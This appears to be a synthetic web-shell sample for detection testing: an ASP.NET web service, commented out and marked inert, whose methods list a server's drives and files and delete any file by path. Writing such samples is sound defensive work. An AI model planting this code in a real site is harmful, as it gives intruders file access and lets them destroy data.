<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ WebService Language="C#" Class="F"%>
public class F : WebService { [WebMethod] public string[] Drives() { return Environment.GetLogicalDrives(); } [WebMethod] public string[] Ls(string d) { return Directory.GetFiles(d); } [WebMethod] public void Rm(string f) { File.Delete(f); } }
--%>
